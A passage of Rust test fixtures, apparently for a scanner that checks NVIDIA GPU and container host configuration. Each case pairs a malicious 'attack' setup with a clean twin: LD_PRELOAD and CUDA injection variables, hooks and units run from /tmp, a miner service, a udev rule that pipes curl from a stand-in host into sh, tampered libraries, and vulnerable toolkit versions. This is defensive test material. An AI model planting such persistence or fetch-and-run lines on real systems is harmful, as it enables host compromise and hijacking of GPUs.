            attack: |fh| {
                fh.write(
                    "/etc/nvidia-container-runtime/config.toml",
                    TOOLKIT_CONFIG
                        .replace("path = \"nvidia-ctk\"", "path = \"/var/tmp/nvidia-ctk\""),
                );
            },
            twin: |fh| {
                fh.write(
                    "/etc/nvidia-container-runtime/config.toml",
                    TOOLKIT_CONFIG
                        .replace("path = \"nvidia-ctk\"", "path = \"/usr/bin/nvidia-ctk\""),
                );
            },
        },
        Case {
            rule_id: "toolkit-cve-2025-23266",
            path: "/etc/nvidia-container-runtime/config.toml",
            attack: |fh| set_toolkit_version(fh, "1.17.4-1"),
            twin: |fh| set_toolkit_version(fh, "1.17.8-1"),
        },
        Case {
            rule_id: "toolkit-cve-2025-23266-mitigated",
            path: "/etc/nvidia-container-runtime/config.toml",
            attack: |fh| {
                set_toolkit_version(fh, "1.17.4-1");
                fh.write(
                    "/etc/nvidia-container-runtime/config.toml",
                    format!("{TOOLKIT_CONFIG}\n[features]\ndisable-cuda-compat-lib-hook = true\n"),
                );
            },
            twin: |fh| {
                set_toolkit_version(fh, "1.18.0-1");
                fh.write(
                    "/etc/nvidia-container-runtime/config.toml",
                    format!("{TOOLKIT_CONFIG}\n[features]\ndisable-cuda-compat-lib-hook = true\n"),
                );
            },
        },
        Case {
            rule_id: "toolkit-cve-2024-0132",
            path: "/etc/nvidia-container-runtime/config.toml",
            attack: |fh| set_toolkit_version(fh, "1.16.1-1"),
            // 1.16.2 fixes this one but not CVE-2025-23266: the clean twin
            // is a toolkit that has both fixes.
            twin: |fh| set_toolkit_version(fh, "1.17.8-1"),
        },
        Case {
            rule_id: "oci-hook-path-nonsystem",
            path: "/etc/containers/oci/hooks.d/01-nvidia.json",
            attack: |fh| {
                fh.write(
                    "/etc/containers/oci/hooks.d/01-nvidia.json",
                    OCI_HOOK.replace(
                        "/usr/bin/nvidia-container-runtime-hook",
                        "/tmp/.x/nvidia-container-runtime-hook",
                    ),
                );
            },
            twin: |fh| {
                fh.write("/etc/containers/oci/hooks.d/01-nvidia.json", OCI_HOOK);
            },
        },
        Case {
            rule_id: "oci-hook-ld-preload",
            path: "/etc/containers/oci/hooks.d/01-nvidia.json",
            attack: |fh| {
                fh.write(
                    "/etc/containers/oci/hooks.d/01-nvidia.json",
                    OCI_HOOK.replace("\"PATH=", "\"LD_PRELOAD=/usr/lib/libnvhook.so\", \"PATH="),
                );
            },
            twin: |fh| {
                fh.write("/etc/containers/oci/hooks.d/01-nvidia.json", OCI_HOOK);
            },
        },
        Case {
            rule_id: "cdi-hook-path",
            path: "/etc/cdi/nvidia.yaml",
            attack: |fh| {
                fh.write(
                    "/etc/cdi/nvidia.yaml",
                    cdi_spec(true).replacen(
                        "path: /usr/bin/nvidia-cdi-hook",
                        "path: /usr/local/bin/gpu-init",
                        1,
                    ),
                );
            },
            twin: |fh| {
                fh.write("/etc/cdi/nvidia.yaml", cdi_spec(true));
            },
        },
        Case {
            rule_id: "cdi-container-ld-preload",
            path: "/etc/cdi/nvidia.yaml",
            attack: |fh| {
                fh.write("/etc/cdi/nvidia.yaml", cdi_spec(true).replace("  - NVIDIA_VISIBLE_DEVICES=void\n", "  - NVIDIA_VISIBLE_DEVICES=void\n  - LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libnvhook.so\n"));
            },
            twin: |fh| {
                fh.write("/etc/cdi/nvidia.yaml", cdi_spec(true));
            },
        },
        Case {
            rule_id: "cdi-hook-without-env",
            path: "/etc/cdi/nvidia.yaml",
            attack: |fh| {
                fh.write("/etc/cdi/nvidia.yaml", cdi_spec(false));
            },
            twin: |fh| {
                fh.write("/etc/cdi/nvidia.yaml", cdi_spec(true));
            },
        },
        Case {
            rule_id: "cdi-mount-temp",
            path: "/var/run/cdi/nvidia.json",
            attack: |fh| {
                fh.write("/var/run/cdi/nvidia.json", r#"{"cdiVersion":"0.5.0","kind":"nvidia.com/gpu","devices":[{"name":"all","containerEdits":{"deviceNodes":[{"path":"/dev/nvidia0"}]}}],"containerEdits":{"mounts":[{"hostPath":"/tmp/.nv/libcuda.so.1","containerPath":"/usr/lib/x86_64-linux-gnu/libcuda.so.1","options":["ro","bind"]}]}}"#);
            },
            twin: |fh| {
                fh.write("/var/run/cdi/nvidia.json", r#"{"cdiVersion":"0.5.0","kind":"nvidia.com/gpu","devices":[{"name":"all","containerEdits":{"deviceNodes":[{"path":"/dev/nvidia0"}]}}],"containerEdits":{"mounts":[{"hostPath":"/usr/lib/x86_64-linux-gnu/libcuda.so.1","containerPath":"/usr/lib/x86_64-linux-gnu/libcuda.so.1","options":["ro","bind"]}]}}"#);
            },
        },
        Case {
            rule_id: "unit-ld-preload",
            path: "/etc/systemd/system/nvidia-persistenced.service.d/override.conf",
            attack: |fh| {
                fh.write("/etc/systemd/system/nvidia-persistenced.service.d/override.conf", "[Service]\nEnvironment=\"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libnvhook.so\"\n");
            },
            twin: |fh| {
                fh.write(
                    "/etc/systemd/system/nvidia-persistenced.service.d/override.conf",
                    "[Service]\nEnvironment=\"CUDA_VISIBLE_DEVICES=0\"\n",
                );
            },
        },
        Case {
            rule_id: "unit-exec-temp",
            path: "/etc/systemd/system/nvidia-telemetry.service",
            attack: |fh| {
                fh.write(
                    "/etc/systemd/system/nvidia-telemetry.service",
                    "[Service]\nExecStart=/tmp/ultralytics_runner -o pool.example:3333\n",
                );
            },
            twin: |fh| {
                fh.write(
                    "/etc/systemd/system/nvidia-telemetry.service",
                    "[Service]\nExecStart=/usr/bin/nvidia-smi -q -l 60\n",
                );
            },
        },
        Case {
            rule_id: "unit-exec-nonsystem",
            path: "/etc/systemd/system/nvidia-telemetry.service",
            attack: |fh| {
                fh.write(
                    "/etc/systemd/system/nvidia-telemetry.service",
                    "[Service]\nExecStart=/var/lib/nv/nvtelemetry\n",
                );
            },
            twin: |fh| {
                fh.write(
                    "/etc/systemd/system/nvidia-telemetry.service",
                    "[Service]\nExecStart=/usr/bin/nvidia-smi -q -l 60\n",
                );
            },
        },
        Case {
            rule_id: "unit-exec-shell",
            path: "/usr/lib/udev/rules.d/60-nvidia.rules",
            attack: |fh| {
                fh.write("/usr/lib/udev/rules.d/60-nvidia.rules", format!("{UDEV_RULE}ACTION==\"add\", KERNEL==\"nvidia\", RUN+=\"/bin/sh -c 'curl -s http://x | sh'\"\n"));
            },
            twin: |fh| {
                fh.write("/usr/lib/udev/rules.d/60-nvidia.rules", UDEV_RULE);
            },
        },
        Case {
            rule_id: "env-loader-variable",
            path: "/etc/environment",
            attack: |fh| {
                fh.write("/etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nCUDA_INJECTION64_PATH=/opt/.cache/libinj.so\n");
            },
            twin: |fh| {
                fh.write("/etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nCUDA_VISIBLE_DEVICES=0\n");
            },
        },
        Case {
            rule_id: "env-loader-variable",
            path: "/etc/profile.d/cuda.sh",
            attack: |fh| {
                fh.write("/etc/profile.d/cuda.sh", format!("{CUDA_PROFILE}export LD_LIBRARY_PATH=/home/alice/.cache/nv:$LD_LIBRARY_PATH\n"));
            },
            twin: |fh| {
                fh.write("/etc/profile.d/cuda.sh", CUDA_PROFILE);
            },
        },
        Case {
            rule_id: "file-writable",
            path: "/usr/share/vulkan/icd.d/nvidia_icd.json",
            attack: |fh| fh.chmod("/usr/share/vulkan/icd.d/nvidia_icd.json", 0o666),
            twin: |fh| fh.chmod("/usr/share/vulkan/icd.d/nvidia_icd.json", 0o644),
        },
        Case {
            rule_id: "library-temp-link",
            path: "/usr/lib/x86_64-linux-gnu/libcuda.so.1",
            attack: |fh| {
                fh.write("/tmp/.nv/libcuda.so.1", filler(4096, 9));
                std::fs::remove_file(fh.real(Path::new("/usr/lib/x86_64-linux-gnu/libcuda.so.1")))
                    .unwrap();
                fh.symlink(
                    "/tmp/.nv/libcuda.so.1",
                    "/usr/lib/x86_64-linux-gnu/libcuda.so.1",
                );
            },
            twin: nothing,
        },
        Case {
            rule_id: "package-conffile-modified",
            // Reached through /etc/alternatives; the conffile is the target.
            path: "/etc/modprobe.d/nvidia.conf",
            attack: |fh| {
                fh.write(
                    "/etc/nvidia/current/nvidia-modprobe.conf",
                    format!("{DEBIAN_MODPROBE}options nvidia NVreg_EnableGpuFirmware=1\n"),
                );
            },
            twin: nothing,
        },
        Case {
            rule_id: "package-digest-mismatch",
            path: "/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.535.183.01",
            attack: |fh| {
                let p = fh.real(Path::new(
                    "/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.535.183.01",
                ));
                let mut b = std::fs::read(&p).unwrap();
                b[10] ^= 0xff;
                std::fs::write(p, b).unwrap();
            },
            twin: nothing,
        },
    ]
}

/// Rewrites the toolkit packages' versions in dpkg's `status`.
pub fn set_toolkit_version(fh: &FakeHost, version: &str) {
    let status = fh.real(Path::new("/var/lib/dpkg/status"));
    let text = std::fs::read_to_string(&status).expect("status");
    let mut out = String::new();
    let mut in_tk = false;
    for line in text.lines() {
        if let Some(p) = line.strip_prefix("Package: ") {
            in_tk = p.starts_with("nvidia-container-toolkit");
        }
        if in_tk && line.starts_with("Version: ") {
            out.push_str(&format!("Version: {version}\n"));
        } else {
            out.push_str(line);
            out.push('\n');
        }
    }
    fh.write("/var/lib/dpkg/status", out);
}

/// Writes `/proc/<pid>` for a process: `comm`, `status` with its uid, and
/// an `exe` link (append ` (deleted)` to say the file is gone).
pub fn plant_process(fh: &FakeHost, pid: u32, comm: &str, exe: &str, uid: u32) {
    fh.write(format!("/proc/{pid}/comm"), format!("{comm}\n"));
    fh.write(
        format!("/proc/{pid}/status"),
        format!("Name:\t{comm}\nUid:\t{uid}\t{uid}\t{uid}\t{uid}\n"),
    );
    fh.symlink(exe, format!("/proc/{pid}/exe"));
}

/// The C source of a stub `libnvidia-ml.so.1`: two GPUs, a training job
/// (pid 4242, python3) on GPU 0 and a miner (pid 31337) on GPU 1, the
/// versioned entry points nvml-wrapper 0.13 calls. Compiled with
/// `-DFAIL_INIT`, `nvmlInit_v2` fails with NVML_ERROR_DRIVER_NOT_LOADED.
pub const NVML_STUB_C: &str = include_str!("../data/gpu/nvml_stub.c");

/// Builds the stub NVML with `cc -shared -fPIC` into `dir` (a C compiler
/// is on every machine that links Rust); `fail_init` makes `nvmlInit_v2`
/// fail as it does without a loaded driver.
pub fn build_nvml_stub(dir: &Path, fail_init: bool) -> PathBuf {
    build_nvml_stub_with(dir, if fail_init { Some("FAIL_INIT") } else { None })
}

/// Builds the stub with one `-D` define (`FAIL_INIT`, `NO_GPUS`), into its
/// own directory under `dir`.
pub fn build_nvml_stub_with(dir: &Path, define: Option<&str>) -> PathBuf {
    let src = dir.join("nvml_stub.c");
    std::fs::write(&src, NVML_STUB_C).expect("write stub source");
    let out = dir
        .join(define.unwrap_or("ok").to_ascii_lowercase())
        .join("libnvidia-ml.so.1");
    std::fs::create_dir_all(out.parent().expect("parent")).expect("mkdir");
    let mut cmd = std::process::Command::new("cc");
    cmd.args(["-shared", "-fPIC", "-O1", "-o"])
        .arg(&out)
        .arg(&src);
    if let Some(d) = define {
        cmd.arg(format!("-D{d}"));
    }
    let status = cmd
        .status()
        .expect("run cc (a C compiler is needed for the NVML stub)");
    assert!(status.success(), "cc failed building the NVML stub");
    out
}
